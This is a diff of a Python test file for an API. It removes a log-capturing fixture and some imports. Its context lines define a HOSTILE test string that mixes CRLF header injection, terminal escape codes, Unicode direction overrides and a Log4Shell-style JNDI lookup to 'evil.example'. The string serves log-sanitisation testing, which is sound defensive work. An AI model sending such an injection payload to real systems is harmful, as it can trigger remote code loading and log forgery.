@@ -2,14 +2,11 @@
 
 import io
 import json
-import logging
 from collections.abc import Iterator
 from pathlib import Path
 
-import pytest
 from sqlalchemy import create_engine, inspect, text
 
-from api.logs import JsonFormatter
 from store.api_keys import Scope
 from tests.api.client import ADMIN, BOOTSTRAP_KEY, Api, bearer, by_cookie, until
 from tests.api.conftest import OpenApi
@@ -20,29 +17,6 @@ IP = "198.51.100.213"
 USER_AGENT = "CanaryBrowser/7.13 (secret machine)"
 HOSTILE = "\r\n\x1b[31mHTTP/1.1 200 OK\r\n\u2028${jndi:ldap://evil.example}\u202e" + "x" * 7000
 SIGN_IN = {"ip_address": IP, "user_agent": USER_AGENT}
-
-
-@pytest.fixture
-def log() -> Iterator[io.StringIO]:
-    """All that the process logs meanwhile, as it would be written."""
-    written = io.StringIO()
-    handler = logging.StreamHandler(written)
-    handler.setFormatter(JsonFormatter())
-    handler.addFilter(lambda record: record.name.partition(".")[0] not in ("httpx", "httpcore"))  # the test's own
-    access = logging.StreamHandler(written)
-    root, ledger_access = logging.getLogger(), logging.getLogger("ledger.access")
-    before = root.level, ledger_access.level, ledger_access.propagate
-    root.setLevel(logging.DEBUG)
-    ledger_access.setLevel(logging.INFO)
-    ledger_access.propagate = False
-    root.addHandler(handler)
-    ledger_access.addHandler(access)
-    yield written
-    root.removeHandler(handler)
-    ledger_access.removeHandler(access)
-    root.setLevel(before[0])
-    ledger_access.setLevel(before[1])
-    ledger_access.propagate = before[2]
 
 
 def live_a_life(api: Api) -> list[str]:
